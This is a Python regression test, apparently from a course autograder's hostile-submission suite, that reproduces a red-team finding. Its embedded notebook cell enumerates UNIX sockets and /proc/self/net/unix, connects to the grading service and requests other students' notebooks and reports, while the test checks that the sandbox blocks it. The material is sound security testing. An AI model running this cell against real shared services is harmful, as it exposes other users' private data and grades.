"""Asks the warm grading service (`rlcourse serve`) to grade another student's notebook, to read
their report (issue 29, finding 2): Landlock does not govern `connect()` to a UNIX socket that
has a path, and where the grader had no writable pids cgroup the service's only other check
(the caller's cgroup) let a root worker under the rlimits fallback in: its report then held
another student's score, items and error text.

The cell tries every socket it is told of (`sockets`: the test that runs this entry gives the
real one, the strongest attacker's case) or finds (`.rlcourse-cache/service/*.sock` of every
course FIND finds, and every socket path in /proc/self/net/unix), and sends the service's own
request for the notebooks it is told of (`victims`) or finds (FIND's class directories). If any
reply carries a report, it raises with it before setting its answer.

Must happen: no worker reaches the service. Under bubblewrap the socket is not in the sandbox;
under the rlimits fallback a root worker's private mounts cover the course's `.rlcourse-cache`
with an empty folder, a worker that is `nobody` cannot enter the service's folder (0700), and
a worker that could still connect (one of the grader's own user without private mounts) is
refused: it cannot read the service's key, which every request must carry. So `short` is set
and nothing is lost. `tests/test_hostile.py` runs a service on the course for the batch that
grades this entry (WITH_GRADING_SERVICE) and tells it the socket and the honest student's
notebook; tests/batch/test_service.py runs it against a service with the pids cgroup out of
reach, as the red team did.
"""
from pathlib import Path

exec(Path(__file__).with_name("_snippets.py").read_text())  # FIND

WITH_GRADING_SERVICE = True

ATTACK = FIND + r'''
import glob as _glob
import json as _json
import socket as _socket

_hostile_sockets = SOCKETS
_hostile_victims = VICTIMS
for _course in _hostile_course_dirs()[0]:
    _hostile_sockets += _glob.glob(_os.path.join(_course, ".rlcourse-cache", "service", "*.sock"))
try:
    with open("/proc/self/net/unix") as _handle:
        _hostile_sockets += [_line.split()[-1] for _line in _handle.read().splitlines()[1:]
                             if _line.split()[-1].startswith("/")]
except OSError:
    pass
for _class in _hostile_course_dirs()[1]:
    _hostile_victims += _glob.glob(_os.path.join(_class, "submitted", "*", "ps1", "*.ipynb"))

_tried, _loot = [], []
for _path in dict.fromkeys(_hostile_sockets):
    try:
        with _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM) as _connection:
            _connection.settimeout(60)
            _connection.connect(_path)
            _request = {"assignment": "ps1", "paths": _hostile_victims or ["ps1.ipynb"],
                         "students": [_os.path.basename(_os.path.dirname(_os.path.dirname(_victim)))
                                      for _victim in _hostile_victims] or [None]}
            _connection.sendall(_json.dumps(_request).encode() + b"\n")
            _reply = _connection.makefile("rb").readline().decode(errors="replace")
        _tried.append(f"{_path}: {_reply[:200]}")
        if '"report"' in _reply:
            _loot.append(_reply[:400])
    except OSError as _error:
        _tried.append(f"{_path}: {type(_error).__name__}")
print("sockets tried:", _tried)
if _loot:
    raise RuntimeError("another student's report, from the grading service: " + " | ".join(_loot))
short = exact_return(jnp.full(3, 100.0), horizon=2)
'''


def cells(*, sockets=(), victims=()) -> dict:
    """The entry's cells, told of `sockets` and `victims` (paths) besides what it finds."""
    return {"exercise_horizon": ATTACK.replace("SOCKETS", repr(list(sockets)), 1)
                                      .replace("VICTIMS", repr(list(victims)), 1)}


CELLS = cells()
LOSES = {}
